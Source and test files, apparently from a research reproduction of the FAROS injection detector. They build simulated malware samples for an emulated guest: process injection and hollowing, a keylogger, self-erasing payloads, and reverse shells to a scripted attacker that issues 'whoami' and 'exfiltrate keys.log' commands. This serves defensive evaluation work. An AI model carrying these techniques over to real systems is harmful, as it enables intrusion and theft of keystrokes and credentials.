		t.Fatalf("spec = %+v", spec)
	}
	if spec.Endpoints[0].Addr.IP != "198.51.100.7" {
		t.Errorf("attacker = %+v", spec.Endpoints[0].Addr)
	}
	if spec.AutoStart[0] != "winver.exe" || spec.AutoStart[1] != "dropper.exe" {
		t.Errorf("autostart = %v", spec.AutoStart)
	}
}

func TestLoadScenarioFileSelfInjectHex(t *testing.T) {
	dir := t.TempDir()
	// NOP + MOV EBX,0 + MOV EDI,StubBase + CALL EDI (hand-encoded; spaces
	// are allowed and stripped by the loader).
	payloadHex := `01 08 00 00 00 00 00 00 03 02 01 00 00 00 00 00 03 02 05 00 00 00 e0 7f 19 01 05 00 00 00 00 00`
	if err := os.WriteFile(filepath.Join(dir, "s.json"), []byte(`{
	  "name": "hex_attack",
	  "self_inject": true,
	  "payload_hex": "`+payloadHex+`"
	}`), 0o644); err != nil {
		t.Fatal(err)
	}
	spec, err := LoadScenarioFile(filepath.Join(dir, "s.json"))
	if err != nil {
		t.Fatal(err)
	}
	if len(spec.Programs) != 1 || spec.Programs[0].Path != "dropper.exe" {
		t.Fatalf("spec = %+v", spec)
	}
}

func TestLoadScenarioFileErrors(t *testing.T) {
	cases := []struct {
		name string
		json string
	}{
		{"no name", `{"victim": "a.exe", "payload_hex": "00"}`},
		{"no payload", `{"name": "x", "victim": "a.exe"}`},
		{"both payloads", `{"name": "x", "victim": "a.exe", "payload_hex": "00", "payload_asm": "payload.s"}`},
		{"no victim", `{"name": "x", "payload_hex": "00"}`},
		{"bad hex", `{"name": "x", "victim": "a.exe", "payload_hex": "zz"}`},
		{"bad json", `{{{`},
	}
	for _, tc := range cases {
		dir := writeScenarioDir(t, tc.json)
		if _, err := LoadScenarioFile(filepath.Join(dir, "scenario.json")); err == nil {
			t.Errorf("%s: accepted", tc.name)
		}
	}
	if _, err := LoadScenarioFile("/nonexistent/x.json"); err == nil {
		t.Error("missing file accepted")
	}

	// Bad assembly in the payload file.
	dir := t.TempDir()
	_ = os.WriteFile(filepath.Join(dir, "bad.s"), []byte("FROB EAX"), 0o644)
	_ = os.WriteFile(filepath.Join(dir, "s.json"), []byte(`{"name":"x","victim":"v.exe","payload_asm":"bad.s"}`), 0o644)
	if _, err := LoadScenarioFile(filepath.Join(dir, "s.json")); err == nil {
		t.Error("bad assembly accepted")
	}
}

package samples

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"sort"
)

// MemImageDigest returns the SHA-256 (hex) of the initial guest
// memory/filesystem image a run of this spec boots from: the seed files
// every kernel installs plus the spec's own program images, in a canonical
// order with length-prefixed fields so no two distinct images collide by
// concatenation.
//
// The digest names the execution environment a recording depends on. A
// trace records only nondeterministic inputs; everything else — the
// documents on disk, the sample binaries — must be bit-identical at replay
// or the guest diverges. Embedding this digest in the trace header lets a
// replay host detect "recorded against a different image" up front as a
// typed error instead of a divergence deep into the run.
func MemImageDigest(s Spec) string {
	h := sha256.New()
	writeBlob := func(b []byte) {
		var n [8]byte
		binary.BigEndian.PutUint64(n[:], uint64(len(b)))
		h.Write(n[:])
		h.Write(b)
	}
	seeds := SeedFiles()
	names := make([]string, 0, len(seeds))
	for name := range seeds {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		writeBlob([]byte(name))
		writeBlob(seeds[name])
	}
	for _, p := range s.Programs {
		writeBlob([]byte(p.Path))
		writeBlob(p.Bytes)
	}
	return hex.EncodeToString(h.Sum(nil))
}

package samples

import (
	"fmt"

	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
)

// Table III workloads: Java applets and AJAX websites exercised through a
// miniature JIT. The runtime downloads "bytecode" from the site, emits
// native FAROS-32 code into an RWX code cache, appends a native epilogue
// that resolves DebugPrint by walking the kernel export table (JIT runtimes
// inline their own linking), and executes the cache.
//
// Two of the Java applets are "leaky": their applet bundle ships a
// precompiled native stub which the JIT copies *verbatim from the network
// buffer* into the code cache. The copied stub carries netflow taint on its
// instruction bytes, so its export-table walk is indistinguishable from an
// injection — the paper's 10%-of-applets false-positive mechanism. The
// other 18 workloads synthesize the epilogue from an image-embedded
// template (file taint only) and stay clean.

// JavaApplets lists the Table III applet names.
func JavaApplets() []string {
	return []string{
		"acceleration", "equilibrium", "pulleysystem", "projectile",
		"ncradle", "keplerlaw1", "inclplane", "lever", "keplerlaw2",
		"collision",
	}
}

// AJAXSites lists the Table III websites.
func AJAXSites() []string {
	return []string{
		"gmail.com", "maps.google.com", "kayak.com", "netflix.com/top100",
		"kiko.com", "backpackit.com", "sudokucarving.com",
		"pressdisplay.com", "rpad.com", "brainking.com",
	}
}

// LeakyApplets are the two workloads whose JIT path copies network bytes
// into the code cache (the paper reports 2 of 20 flagged; which two is not
// named in the paper, so the choice here is arbitrary and documented).
func LeakyApplets() map[string]bool {
	return map[string]bool{"equilibrium": true, "collision": true}
}

// buildJITStub builds the position-independent native epilogue: walk the
// export table, resolve DebugPrint, print a marker, return to the JIT.
func buildJITStub(marker string) []byte {
	pb := isa.NewBlock()
	pb.Jmp("entry")
	resolveSub(pb)
	pb.Label("entry")
	emitResolveTo(pb, "DebugPrint", isa.EDX)
	pb.LeaSelf(isa.EBX, "marker")
	pb.CallReg(isa.EDX)
	pb.Ret()
	pb.Label("marker").DataString(marker)
	code, err := pb.Assemble(0)
	if err != nil {
		panic(fmt.Sprintf("samples: jit stub: %v", err))
	}
	return code
}

// jitSiteAddr derives a deterministic fake server address per site.
func jitSiteAddr(index int) gnet.Addr {
	return gnet.Addr{IP: fmt.Sprintf("93.184.216.%d", 10+index), Port: 80}
}

// jitRuntime builds the JIT host program (java.exe or browser.exe flavor).
//
// Protocol: the site sends bytecodeLen bytecode bytes followed, for leaky
// bundles, by the precompiled native stub. The runtime emits one
// MOV EAX, <b> instruction per bytecode byte into the code cache, then
// appends the epilogue stub — copied from the network buffer when leaky,
// from its own image template otherwise — and calls the cache.
func jitRuntime(name string, site gnet.Addr, bytecodeLen, stubLen uint32, leaky bool, stub []byte) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("template").Data(stub)
	rxBuf := b.BSS(8192)
	total := bytecodeLen
	if leaky {
		total += stubLen
	}

	emitConnect(b, site)
	emitRecvAll(b, rxBuf, total)

	// Code cache.
	b.Text.Movi(isa.EBX, 0)
	b.Text.Movi(isa.ECX, 0)
	b.Text.Movi(isa.EDX, bytecodeLen*8+stubLen)
	b.Text.Movi(isa.ESI, 7)
	b.CallImport("VirtualAlloc")
	b.Text.Mov(isa.EBP, isa.EAX) // cache base

	// Phase 1 — translate: for each bytecode byte emit MOV EAX, <b>.
	// The immediate byte is copied from the (tainted) input; MOV-immediate
	// instructions never read memory, so this alone cannot trip the policy.
	b.Text.Movi(isa.ECX, 0) // bytecode index
	b.Text.Label("emit")
	b.Text.Cmpi(isa.ECX, bytecodeLen)
	b.Text.Jge("emitted")
	// dst offset = i*8 → EDX
	b.Text.Mov(isa.EDX, isa.ECX)
	b.Text.Shli(isa.EDX, 3)
	b.Text.Add(isa.EDX, isa.EBP)
	// [EDX+0] = OpMov, [EDX+1] = ModeRI, rest zero, [EDX+4] = bytecode[i]
	b.Text.Movi(isa.EAX, uint32(isa.OpMov))
	b.Text.Stb(isa.EDX, 0, isa.EAX)
	b.Text.Movi(isa.EAX, uint32(isa.ModeRI))
	b.Text.Stb(isa.EDX, 1, isa.EAX)
	b.Text.Movi(isa.EAX, 0)
	b.Text.Stb(isa.EDX, 2, isa.EAX)
	b.Text.Stb(isa.EDX, 3, isa.EAX)
	b.Text.Stb(isa.EDX, 5, isa.EAX)
	b.Text.Stb(isa.EDX, 6, isa.EAX)
	b.Text.Stb(isa.EDX, 7, isa.EAX)
	b.Text.Movi(isa.ESI, rxBuf)
	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX) // tainted constant
	b.Text.Stb(isa.EDX, 4, isa.EAX)
	b.Text.Addi(isa.ECX, 1)
	b.Text.Jmp("emit")
	b.Text.Label("emitted")

	// Phase 2 — link the native epilogue into the cache.
	srcVA := b.MustDataVA("template")
	if leaky {
		srcVA = rxBuf + bytecodeLen
	}
	b.Text.Movi(isa.ECX, 0)
	b.Text.Label("link")
	b.Text.Cmpi(isa.ECX, stubLen)
	b.Text.Jge("linked")
	b.Text.Movi(isa.ESI, srcVA)
	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
	b.Text.Mov(isa.EDX, isa.EBP)
	b.Text.Addi(isa.EDX, bytecodeLen*8)
	b.Text.StbIdx(isa.EDX, isa.ECX, isa.EAX)
	b.Text.Addi(isa.ECX, 1)
	b.Text.Jmp("link")
	b.Text.Label("linked")

	// Execute the cache (the MOV chain falls through into the epilogue).
	b.Text.CallReg(isa.EBP)
	emitExit(b, 0)
	return build(b, name)
}

// JITWorkload builds the scenario for one Table III entry.
func JITWorkload(index int, site string, applet, leaky bool) Spec {
	const bytecodeLen = 24
	marker := "jit:" + site
	stub := buildJITStub(marker)
	addr := jitSiteAddr(index)

	// The site serves bytecode (deterministic pseudo-bytes) and, for leaky
	// bundles, the precompiled stub.
	payload := make([]byte, bytecodeLen)
	for i := range payload {
		payload[i] = byte(7*i + index + 13)
	}
	if leaky {
		payload = append(payload, stub...)
	}

	host := "java.exe"
	if !applet {
		host = "browser.exe"
	}
	expectRule := ""
	if leaky {
		expectRule = "netflow-export"
	}
	name := fmt.Sprintf("%s_%02d_%s", host, index, sanitize(site))
	return Spec{
		Name: "jit_" + sanitize(site),
		Programs: []Program{
			jitRuntime(name, addr, bytecodeLen, uint32(len(stub)), leaky, stub),
		},
		AutoStart:  []string{name},
		Endpoints:  []EndpointSpec{{Addr: addr, Endpoint: oneShot{delay: 400, payload: payload}}},
		MaxInstr:   6_000_000,
		ExpectFlag: leaky,
		ExpectRule: expectRule,
	}
}

func sanitize(s string) string {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == '.' || c == '/' {
			c = '_'
		}
		out = append(out, c)
	}
	return string(out)
}

// JITWorkloads returns all 20 Table III scenarios: 10 Java applets (2
// leaky) and 10 AJAX sites (clean).
func JITWorkloads() []Spec {
	leaky := LeakyApplets()
	var out []Spec
	for i, applet := range JavaApplets() {
		out = append(out, JITWorkload(i, applet, true, leaky[applet]))
	}
	for i, site := range AJAXSites() {
		out = append(out, JITWorkload(10+i, site, false, false))
	}
	return out
}

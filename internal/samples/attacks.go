package samples

import (
	"faros/internal/guest"
	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
	"faros/internal/record"
)

// networkInjector builds inject_client.exe: it opens a session to the
// attacker, receives a payload of exactly payloadLen bytes, and injects it
// into victimName via the OpenProcess/VirtualAlloc/WriteProcessMemory/
// CreateRemoteThread chain. This is the Meterpreter-style remote injection
// client of the paper's reflective-DLL experiments.
func networkInjector(name, victimName string, payloadLen uint32) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("victim").DataString(victimName)
	buf := b.BSS(4096)

	emitConnect(b, AttackerAddr)
	emitRecvAll(b, buf, payloadLen)
	emitFindAndOpenProcess(b, "victim")
	emitInjectAndRun(b, buf, payloadLen)
	emitExit(b, 0)
	return build(b, name)
}

// selfInjector builds the reverse_tcp_dns-style client: the shellcode and
// the target process are the same (paper §VI, experiment 2). It receives
// the payload, VirtualAllocs an RWX region in its own space, copies the
// payload over with a guest-level byte loop, and jumps to it.
func selfInjector(name string, payloadLen uint32) Program {
	b := peimg.NewBuilder(name)
	buf := b.BSS(4096)

	emitConnect(b, AttackerAddr)
	emitRecvAll(b, buf, payloadLen)

	// VirtualAlloc(self, anywhere, payloadLen, rwx)
	b.Text.Movi(isa.EBX, 0)
	b.Text.Movi(isa.ECX, 0)
	b.Text.Movi(isa.EDX, payloadLen)
	b.Text.Movi(isa.ESI, 7)
	b.CallImport("VirtualAlloc")
	b.Text.Mov(isa.EBP, isa.EAX)

	// Byte-copy loop: taint flows with the data, and every store stamps the
	// process tag.
	b.Text.Movi(isa.ECX, 0)
	b.Text.Label("cp")
	b.Text.Cmpi(isa.ECX, payloadLen)
	b.Text.Jge("go")
	b.Text.Movi(isa.ESI, buf)
	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
	b.Text.StbIdx(isa.EBP, isa.ECX, isa.EAX)
	b.Text.Addi(isa.ECX, 1)
	b.Text.Jmp("cp")
	b.Text.Label("go")
	b.Text.CallReg(isa.EBP) // payload is resident; never returns
	emitExit(b, 0)
	return build(b, name)
}

// hollowingLoader builds process_hollowing.exe: it spawns svchost.exe
// suspended, unmaps its image, writes an embedded keylogger payload into a
// fresh RWX region, points the thread at it, resumes, deletes its own file
// from disk (droppers clean up), and exits. The payload never touches the
// network — Figure 10's provenance list has no netflow tag.
func hollowingLoader(name, victimPath string, payload []byte) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("victimpath").DataString(victimPath)
	b.DataBlk.Label("selfpath").DataString(name)
	b.DataBlk.Label("payload").Data(payload)
	n := uint32(len(payload))

	// CreateProcessA(victim, CREATE_SUSPENDED) → pid
	b.Text.Movi(isa.EBX, b.MustDataVA("victimpath"))
	b.Text.Movi(isa.ECX, guest.CreateSuspended)
	b.CallImport("CreateProcessA")
	b.Text.Mov(isa.EBX, isa.EAX)
	b.CallImport("OpenProcess")
	b.Text.Mov(isa.EBP, isa.EAX) // child handle

	// NtUnmapViewOfSection(child, image text)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, guest.UserImageBase+peimg.TextOff)
	b.CallImport("NtUnmapViewOfSection")

	emitInjectHollow(b, n)

	// Drop the dropper.
	b.Text.Movi(isa.EBX, b.MustDataVA("selfpath"))
	b.CallImport("DeleteFileA")
	emitExit(b, 0)
	return build(b, name)
}

// emitInjectHollow allocates in the suspended child (handle in EBP), writes
// the payload, sets the thread context to its base, and resumes.
func emitInjectHollow(b *peimg.Builder, n uint32) {
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, 0)
	b.Text.Movi(isa.EDX, n)
	b.Text.Movi(isa.ESI, 7)
	b.CallImport("VirtualAlloc")
	b.Text.Push(isa.EAX)

	b.Text.Mov(isa.ECX, isa.EAX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.EDX, b.MustDataVA("payload"))
	b.Text.Movi(isa.ESI, n)
	b.CallImport("WriteProcessMemory")

	// SetThreadContext(child, payload base)
	b.Text.Pop(isa.ECX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.CallImport("SetThreadContext")

	b.Text.Mov(isa.EBX, isa.EBP)
	b.CallImport("ResumeProcess")
}

// shellC2 scripts the attacker's handler for connect-back shells: one
// command on connect, a second command in response to the beacon, then it
// closes the flow.
type shellC2 struct{}

func (shellC2) OnConnect(gnet.Flow) []gnet.Reply {
	return []gnet.Reply{{DelayInstr: 400, Data: []byte("whoami\x00")}}
}

func (shellC2) OnData(gnet.Flow, []byte) []gnet.Reply {
	return []gnet.Reply{
		{DelayInstr: 400, Data: []byte("exfiltrate keys.log\x00")},
		{DelayInstr: 900, Close: true},
	}
}

// typedKeystrokes scripts the victim typing, so keyloggers capture data.
func typedKeystrokes(startAt uint64) []record.Event {
	return []record.Event{
		{At: startAt, Kind: record.EvKeyboard, Data: []byte("hunter2\x00")},
		{At: startAt + 400_000, Kind: record.EvKeyboard, Data: []byte("credit card 4111\x00")},
	}
}

// ReflectiveDLLInject reproduces experiment 1 (§VI): the Meterpreter
// reflective_dll_inject module. The attacker delivers a reflective loader
// that walks the export table to resolve LoadLibraryA/GetProcAddress/
// VirtualAlloc, allocates, copies its DLL stage into the allocation, and
// runs it inside notepad.exe; the stage pops a message box.
func ReflectiveDLLInject() Spec {
	payload := BuildPayload(PayloadSpec{
		Message:     "reflective dll loaded",
		SecondStage: true,
	})
	return Spec{
		Name: "reflective_dll_inject",
		Programs: []Program{
			victimProgram("notepad.exe"),
			networkInjector("inject_client.exe", "notepad.exe", uint32(len(payload))),
		},
		AutoStart:  []string{"notepad.exe", "inject_client.exe"},
		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}}},
		MaxInstr:   4_000_000,
		ExpectFlag: true,
		ExpectRule: "netflow-export",
	}
}

// ReverseTCPDNS reproduces experiment 2: the reverse_tcp_dns module, where
// the shellcode and the target process are the same (self-injection, Fig 8).
func ReverseTCPDNS() Spec {
	payload := BuildPayload(PayloadSpec{Message: "reverse tcp dns stage"})
	return Spec{
		Name: "reverse_tcp_dns",
		Programs: []Program{
			selfInjector("inject_client.exe", uint32(len(payload))),
		},
		AutoStart:  []string{"inject_client.exe"},
		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}}},
		MaxInstr:   4_000_000,
		ExpectFlag: true,
		ExpectRule: "netflow-export",
	}
}

// BypassUAC reproduces experiment 3: the bypassuac_injection module with
// firefox.exe as the target. The payload self-erases its prologue after
// running (transient in-memory attack).
func BypassUAC() Spec {
	payload := BuildPayload(PayloadSpec{
		Message:   "uac bypassed",
		SelfErase: true,
	})
	return Spec{
		Name: "bypassuac_injection",
		Programs: []Program{
			victimProgram("firefox.exe"),
			networkInjector("inject_client.exe", "firefox.exe", uint32(len(payload))),
		},
		AutoStart:  []string{"firefox.exe", "inject_client.exe"},
		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}}},
		MaxInstr:   4_000_000,
		ExpectFlag: true,
		ExpectRule: "netflow-export",
	}
}

// ProcessHollowing reproduces the Lab 3-3 experiment: process replacement
// of svchost.exe launching a keylogger. The payload is embedded in the
// loader's image (no network), so only the foreign-code confluence fires —
// Figure 10's provenance has no netflow tag.
func ProcessHollowing() Spec {
	payload := BuildPayload(PayloadSpec{Keylog: "keystrokes.log"})
	return Spec{
		Name: "process_hollowing",
		Programs: []Program{
			victimProgram("svchost.exe"),
			hollowingLoader("process_hollowing.exe", "svchost.exe", payload),
		},
		// svchost.exe is only installed, not auto-started: the loader
		// spawns it suspended itself.
		AutoStart:  []string{"process_hollowing.exe"},
		Events:     typedKeystrokes(600_000),
		MaxInstr:   4_000_000,
		ExpectFlag: true,
		ExpectRule: "foreign-code-export",
	}
}

// DarkComet reproduces the DarkComet RAT code-injection experiment: the
// RAT client fetches shellcode from its C2 and injects it into
// explorer.exe; the shellcode opens a reverse shell to the attacker.
func DarkComet() Spec {
	payload := BuildPayload(PayloadSpec{
		ConnectBack: &AttackerShellAddr,
		Beacon:      "darkcomet ready",
	})
	return Spec{
		Name: "darkcomet",
		Programs: []Program{
			victimProgram("explorer.exe"),
			networkInjector("darkcomet.exe", "explorer.exe", uint32(len(payload))),
		},
		AutoStart: []string{"explorer.exe", "darkcomet.exe"},
		Endpoints: []EndpointSpec{
			{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}},
			{Addr: AttackerShellAddr, Endpoint: shellC2{}},
		},
		MaxInstr:   6_000_000,
		ExpectFlag: true,
		ExpectRule: "netflow-export",
	}
}

// Njrat reproduces the Njrat remote-shell code-injection experiment,
// targeting notepad.exe.
func Njrat() Spec {
	payload := BuildPayload(PayloadSpec{
		ConnectBack: &AttackerShellAddr,
		Beacon:      "njrat shell up",
	})
	return Spec{
		Name: "njrat",
		Programs: []Program{
			victimProgram("notepad.exe"),
			networkInjector("njrat.exe", "notepad.exe", uint32(len(payload))),
		},
		AutoStart: []string{"notepad.exe", "njrat.exe"},
		Endpoints: []EndpointSpec{
			{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}},
			{Addr: AttackerShellAddr, Endpoint: shellC2{}},
		},
		MaxInstr:   6_000_000,
		ExpectFlag: true,
		ExpectRule: "netflow-export",
	}
}

// TransientReflective is the malfind-evasion variant used in the §VI.B
// comparison: identical to ReflectiveDLLInject but the payload erases its
// executed prologue before going resident, so the end-of-run snapshot
// shows only zeroes at the allocation head.
func TransientReflective() Spec {
	payload := BuildPayload(PayloadSpec{
		Message:   "transient stage",
		SelfErase: true,
	})
	s := Spec{
		Name: "transient_reflective",
		Programs: []Program{
			victimProgram("notepad.exe"),
			networkInjector("inject_client.exe", "notepad.exe", uint32(len(payload))),
		},
		AutoStart:  []string{"notepad.exe", "inject_client.exe"},
		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}}},
		MaxInstr:   4_000_000,
		ExpectFlag: true,
		ExpectRule: "netflow-export",
	}
	return s
}

// chaosBystander builds a CPU-bound benign process used by the chaos
// experiment as the guest-fault target: it spins through a counted loop,
// prints a completion line, and exits. Faults injected into it must never
// disturb the attack detection running alongside.
func chaosBystander(name string) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("done").DataString("bystander done")
	b.Text.Movi(isa.ECX, 0)
	b.Text.Label("spin")
	b.Text.Cmpi(isa.ECX, 200_000)
	b.Text.Jge("out")
	b.Text.Addi(isa.ECX, 1)
	b.Text.Jmp("spin")
	b.Text.Label("out")
	emitDebugPrint(b, "done")
	emitExit(b, 0)
	return build(b, name)
}

// ChaosResilience is ReflectiveDLLInject plus a CPU-bound bystander: the
// chaos experiment aims its guest-level faults (code flips, wild jumps) at
// the bystander and asserts the attack is still detected and the run
// completes.
func ChaosResilience() Spec {
	s := ReflectiveDLLInject()
	s.Name = "chaos_resilience"
	s.Programs = append(s.Programs, chaosBystander("bystander.exe"))
	s.AutoStart = append(s.AutoStart, "bystander.exe")
	return s
}

// Attacks returns the six in-memory-injection scenarios of the paper's
// evaluation, in the order §VI presents them.
func Attacks() []Spec {
	return []Spec{
		ReflectiveDLLInject(),
		ReverseTCPDNS(),
		BypassUAC(),
		ProcessHollowing(),
		DarkComet(),
		Njrat(),
	}
}

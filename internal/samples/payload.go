package samples

import (
	"fmt"

	"faros/internal/guest"
	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
)

// PayloadSpec describes an injected payload. Payloads are raw
// position-independent FAROS-32 code: they resolve every API they use by
// manually walking the kernel export table (the reflective-loader
// technique), which is exactly the behaviour FAROS' tag-confluence policy
// keys on.
type PayloadSpec struct {
	// Message, when set, pops a MessageBoxA with this text.
	Message string
	// SecondStage, when set, VirtualAllocs a fresh RWX buffer, copies an
	// embedded second-stage blob into it, and calls it — the reflective
	// DLL "loads itself" step. The second stage shows Message instead of
	// the first stage doing so.
	SecondStage bool
	// SelfErase zeroes the payload's executed prologue before entering the
	// resident tail loop, evading snapshot scanners (transient attack).
	SelfErase bool
	// Keylog, when set, makes the payload a keylogger writing keystrokes to
	// this file forever (the hollowing payload of the paper's Lab 3-3).
	Keylog string
	// ConnectBack, when set, connects to this address, sends Beacon, then
	// echoes received commands to the console (a remote shell).
	ConnectBack *gnet.Addr
	Beacon      string
	// ExitHost, when set, terminates the host process at the end instead of
	// sleeping resident.
	ExitHost bool

	// secondStageLeaf marks the embedded stage built by SecondStage: it
	// ends with RET so the first stage regains control.
	secondStageLeaf bool
}

// resolveSub emits the export-table walk subroutine at label "resolve":
// EBX = name hash in, EAX = address out (0 if not found). Preserves
// ECX/EDX/ESI; clobbers EDI. Every Ld against the table is a read of
// export-table-tagged memory — when this code itself carries netflow or
// foreign-process provenance, FAROS flags the confluence.
func resolveSub(pb *isa.Block) {
	pb.Label("resolve")
	pb.Push(isa.ECX).Push(isa.EDX).Push(isa.ESI)
	pb.Movi(isa.ECX, guest.ExportTableBase)
	pb.Ld(isa.EDX, isa.ECX, 0) // entry count
	pb.Movi(isa.ESI, 0)
	pb.Label("r_loop")
	pb.Cmp(isa.ESI, isa.EDX)
	pb.Jge("r_fail")
	pb.Mov(isa.EAX, isa.ESI)
	pb.Shli(isa.EAX, 3)
	pb.Add(isa.EAX, isa.ECX)
	pb.Ld(isa.EDI, isa.EAX, 4) // name hash
	pb.Cmp(isa.EDI, isa.EBX)
	pb.Jz("r_found")
	pb.Addi(isa.ESI, 1)
	pb.Jmp("r_loop")
	pb.Label("r_found")
	pb.Ld(isa.EAX, isa.EAX, 8) // function pointer
	pb.Jmp("r_out")
	pb.Label("r_fail")
	pb.Movi(isa.EAX, 0)
	pb.Label("r_out")
	pb.Pop(isa.ESI).Pop(isa.EDX).Pop(isa.ECX)
	pb.Ret()
}

// emitResolveTo emits "resolve(hash(name)) into reg" (reg must not be EAX
// if it should survive further resolves; EDI is clobbered).
func emitResolveTo(pb *isa.Block, name string, reg isa.Reg) {
	pb.Movi(isa.EBX, peimg.HashName(name))
	pb.Call("resolve")
	if reg != isa.EAX {
		pb.Mov(reg, isa.EAX)
	}
}

// BuildPayload assembles the payload described by spec.
func BuildPayload(spec PayloadSpec) []byte {
	pb := isa.NewBlock()
	pb.Label("p0")
	pb.Jmp("entry") // skip over the resolver
	resolveSub(pb)
	pb.Label("entry")

	// The reflective-loader ritual: resolve the three functions the paper
	// names (LoadLibraryA, GetProcAddress, VirtualAlloc) by hash.
	emitResolveTo(pb, "LoadLibraryA", isa.EAX)
	emitResolveTo(pb, "GetProcAddress", isa.EAX)
	emitResolveTo(pb, "VirtualAlloc", isa.EAX)
	pb.Push(isa.EAX) // keep VirtualAlloc

	var stage2 []byte
	if spec.SecondStage {
		stage2 = BuildPayload(PayloadSpec{Message: spec.Message, ExitHost: false, secondStageLeaf: true})
	}

	switch {
	case spec.SecondStage:
		// VirtualAlloc(self, anywhere, len(stage2), rwx)
		pb.Pop(isa.EDI)
		pb.Movi(isa.EBX, 0)
		pb.Movi(isa.ECX, 0)
		pb.Movi(isa.EDX, uint32(len(stage2)))
		pb.Movi(isa.ESI, 7)
		pb.CallReg(isa.EDI)
		pb.Mov(isa.EBP, isa.EAX)
		// copy stage2 into the allocation
		pb.LeaSelf(isa.ESI, "stage2")
		pb.Movi(isa.ECX, 0)
		pb.Label("cp")
		pb.Cmpi(isa.ECX, uint32(len(stage2)))
		pb.Jge("cp_done")
		pb.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
		pb.StbIdx(isa.EBP, isa.ECX, isa.EAX)
		pb.Addi(isa.ECX, 1)
		pb.Jmp("cp")
		pb.Label("cp_done")
		pb.CallReg(isa.EBP) // run the loaded stage (returns)
	default:
		pb.Pop(isa.EAX) // discard VirtualAlloc
		if spec.Message != "" {
			emitResolveTo(pb, "MessageBoxA", isa.EDX)
			pb.LeaSelf(isa.EBX, "msg")
			pb.CallReg(isa.EDX)
		}
	}

	if spec.Keylog != "" {
		emitKeylogBody(pb)
	}
	if spec.ConnectBack != nil {
		emitConnectBackBody(pb, *spec.ConnectBack, uint32(len(spec.Beacon)+1))
	}

	switch {
	case spec.secondStageLeaf:
		pb.Ret()
	case spec.ExitHost:
		emitResolveTo(pb, "ExitProcess", isa.EDX)
		pb.Movi(isa.EBX, 0)
		pb.CallReg(isa.EDX)
	default:
		// Resident tail: resolve Sleep once, optionally erase the executed
		// prologue, then sleep forever.
		emitResolveTo(pb, "Sleep", isa.EBP)
		if spec.SelfErase {
			pb.LeaSelf(isa.EBX, "p0")
			pb.LeaSelf(isa.EDX, "tail")
			pb.Movi(isa.EAX, 0)
			pb.Label("erase")
			pb.Cmp(isa.EBX, isa.EDX)
			pb.Jge("tail")
			pb.Stb(isa.EBX, 0, isa.EAX)
			pb.Addi(isa.EBX, 1)
			pb.Jmp("erase")
		}
		pb.Label("tail")
		pb.Movi(isa.EBX, 5000)
		pb.CallReg(isa.EBP)
		pb.Jmp("tail")
	}

	// Data pool.
	if spec.Message != "" && !spec.SecondStage {
		pb.Label("msg").DataString(spec.Message)
	}
	if spec.Keylog != "" {
		pb.Label("logname").DataString(spec.Keylog)
		pb.Label("kbuf").Space(64)
	}
	if spec.ConnectBack != nil {
		pb.Label("cbip").DataString(spec.ConnectBack.IP)
		pb.Label("beacon").DataString(spec.Beacon)
		pb.Label("cbuf").Space(128)
	}
	if spec.SecondStage {
		pb.Align(isa.InstrSize)
		pb.Label("stage2").Data(stage2)
	}

	code, err := pb.Assemble(0)
	if err != nil {
		panic(fmt.Sprintf("samples: payload: %v", err))
	}
	return code
}

// emitKeylogBody emits the hollowing keylogger: create the log file, then
// poll the keyboard forever, appending keystrokes. Every API is resolved by
// export walk each time (lazy binding), multiplying the tagged reads.
func emitKeylogBody(pb *isa.Block) {
	emitResolveTo(pb, "CreateFileA", isa.EDX)
	pb.LeaSelf(isa.EBX, "logname")
	pb.CallReg(isa.EDX)
	pb.Mov(isa.EBP, isa.EAX) // log handle, persistent

	pb.Label("kl_loop")
	emitResolveTo(pb, "ReadKeyboard", isa.EDX)
	pb.LeaSelf(isa.EBX, "kbuf")
	pb.Movi(isa.ECX, 32)
	pb.CallReg(isa.EDX) // EAX = n
	pb.Cmpi(isa.EAX, 0)
	pb.Jz("kl_sleep")
	pb.Mov(isa.EDX, isa.EAX) // n (resolve preserves EDX)
	emitResolveTo(pb, "WriteFile", isa.ESI)
	pb.Mov(isa.EBX, isa.EBP)
	pb.LeaSelf(isa.ECX, "kbuf")
	pb.CallReg(isa.ESI)
	pb.Label("kl_sleep")
	emitResolveTo(pb, "Sleep", isa.EDX)
	pb.Movi(isa.EBX, 800)
	pb.CallReg(isa.EDX)
	pb.Jmp("kl_loop")
}

// emitConnectBackBody emits a reverse shell: connect to the attacker, send
// a beacon, then echo each received command until the flow closes.
func emitConnectBackBody(pb *isa.Block, addr gnet.Addr, beaconLen uint32) {
	emitResolveTo(pb, "Socket", isa.EDX)
	pb.CallReg(isa.EDX)
	pb.Mov(isa.EBP, isa.EAX) // socket handle

	emitResolveTo(pb, "Connect", isa.ESI)
	pb.Mov(isa.EBX, isa.EBP)
	pb.LeaSelf(isa.ECX, "cbip")
	pb.Movi(isa.EDX, uint32(addr.Port))
	pb.CallReg(isa.ESI)

